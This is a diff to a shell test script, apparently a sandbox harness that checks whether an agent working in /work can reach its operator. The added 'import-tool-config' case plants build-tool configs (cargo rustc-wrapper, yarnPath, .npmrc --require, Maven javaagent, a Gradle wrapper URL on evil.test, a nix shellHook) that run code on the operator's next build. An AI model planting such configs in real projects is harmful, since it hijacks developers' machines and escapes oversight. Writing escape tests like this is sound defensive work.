@@ -271,6 +271,28 @@ import-bare-repo) # CANARYPATH
 	echo ../evil3/x >/work/evil2/commondir
 	echo "agent change" >>/work/README
 	done_ ;;
+import-tool-config) # CANARYPATH
+	# Config that the operator's next cargo, yarn, npm, mvn, gradle,
+	# rustup, mise, dotnet or nix run executes from: none is "code".
+	cd /work || exit 1
+	mkdir -p .cargo .mvn gradle/wrapper .bundle .yarn/releases
+	printf '[build]\nrustc-wrapper = "/bin/sh -c touch %s"\n' "$1" \
+	    >.cargo/config.toml
+	printf 'yarnPath: .yarn/releases/evil.cjs\n' >.yarnrc.yml
+	printf 'require("fs").writeFileSync("%s", "")\n' "$1" \
+	    >.yarn/releases/evil.cjs
+	printf 'node-options=--require ./.yarn/releases/evil.cjs\n' >.npmrc
+	printf -- '-javaagent:evil.jar\n' >.mvn/jvm.config
+	printf 'distributionUrl=http\\://evil.test/g.zip\n' \
+	    >gradle/wrapper/gradle-wrapper.properties
+	printf '[toolchain]\npath = "/work/.bin"\n' >rust-toolchain.toml
+	printf '[env]\n_.source = "./hijack.sh"\n' >mise.toml
+	printf '<Project><Target Name="x" BeforeTargets="Build"><Exec Command="touch %s"/></Target></Project>\n' \
+	    "$1" >Directory.Build.props
+	printf 'BUNDLE_GEMFILE: "evil"\n' >.bundle/config
+	printf '{ pkgs ? import <nixpkgs> {} }: pkgs.mkShell { shellHook = "touch %s"; }\n' \
+	    "$1" >shell.nix
+	done_ ;;
 supply-hijack) # CANARYPATH
 	mkdir -p /work/bin2
 	for t in git sh ls cat env cp rm bwrap corral; do
